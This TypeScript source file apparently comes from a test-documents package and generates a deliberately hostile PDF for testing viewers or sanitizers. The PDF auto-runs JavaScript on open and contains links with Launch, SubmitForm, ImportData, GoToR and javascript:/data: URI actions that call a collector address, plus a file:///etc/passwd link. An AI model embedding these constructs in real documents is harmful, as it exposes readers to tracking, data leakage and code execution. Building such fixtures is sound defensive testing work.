import { type Objects, rawStream, writePdf } from '@leeszaal/test-documents';

/** The title of the file. */
export const HOSTILE_PDF_TITLE = 'A File That Means Harm';

/** The action of each link, by name. `at` is the collector's address. */
const ACTIONS: Readonly<Record<string, (at: string) => string>> = {
  javascript: (at) => `/S /JavaScript /JS (app.launchURL\\('${at}'\\))`,
  'uri-javascript': (at) => `/S /URI /URI (javascript:new Image\\(\\).src='${at}')`,
  'uri-data': (at) => `/S /URI /URI (data:text/html,<script src=${at}></script>)`,
  'uri-file': () => '/S /URI /URI (file:///etc/passwd)',
  launch: (at) => `/S /Launch /F << /Type /Filespec /F (${at}) >>`,
  'go-to-remote': (at) => `/S /GoToR /F (${at}) /D [0 /Fit]`,
  'submit-form': (at) => `/S /SubmitForm /F << /FS /URL /F (${at}) >> /Flags 4`,
  'import-data': (at) => `/S /ImportData /F (${at})`,
  named: () => '/S /Named /N /Print',
  sound: (at) => `/S /Sound /Sound << /Type /Sound /R 8000 /F (${at}) >>`,
  rendition: (at) => `/S /Rendition /OP 0 /JS (app.launchURL\\('${at}'\\))`,
};

/** The number of links on the page. */
export const PDF_ACTIONS = Object.keys(ACTIONS).length;

/**
 * A PDF of one page that opens with scripts, loads external resources and has many harmful links.
 */
export function makeHostilePdf(addressOf: (name: string) => string): Uint8Array {
  const names = Object.keys(ACTIONS);
  const open = addressOf('pdf-open');
  const script = `<< /S /JavaScript /JS (app.launchURL\\('${open}'\\)) >>`;
  const first = 10;
  const objects: Objects = {
    1: `<< /Type /Catalog /Pages 2 0 R /OpenAction ${script} /AA << /WC ${script} >> /Names << /JavaScript << /Names [(a) ${script}] >> >> /AcroForm << /Fields [8 0 R] /XFA (<xdp/>) >> >>`,
    2: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    3: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 420 595] /Contents 4 0 R /AA << /O ${script} /C ${script} >> /Resources << /Font << /F1 5 0 R >> /XObject << /I 6 0 R >> >> /Annots [8 0 R ${names.map((_name, at) => `${first + at} 0 R`).join(' ')}] >>`,
    4: rawStream(
      'BT /F1 14 Tf 40 545 Td (This page means harm) Tj ET q 40 0 0 40 40 480 cm /I Do Q',
    ),
    5: '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    6: rawStream(
      '0',
      `/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /F << /FS /URL /F (${addressOf('pdf-image')}) >>`,
    ),
    7: `<< /Title (${HOSTILE_PDF_TITLE}) >>`,
    8: `<< /Type /Annot /Subtype /Widget /FT /Tx /T (field) /Rect [40 430 200 450] /AA << /K ${script} /F ${script} >> >>`,
    ...Object.fromEntries(
      names.map((name, at) => [
        first + at,
        `<< /Type /Annot /Subtype /Link /Rect [40 ${400 - at * 30} 300 ${420 - at * 30}] /A << ${ACTIONS[name]?.(addressOf(`pdf-${name}`))} >> >>`,
      ]),
    ),
  };
  return writePdf(objects, '/Info 7 0 R');
}
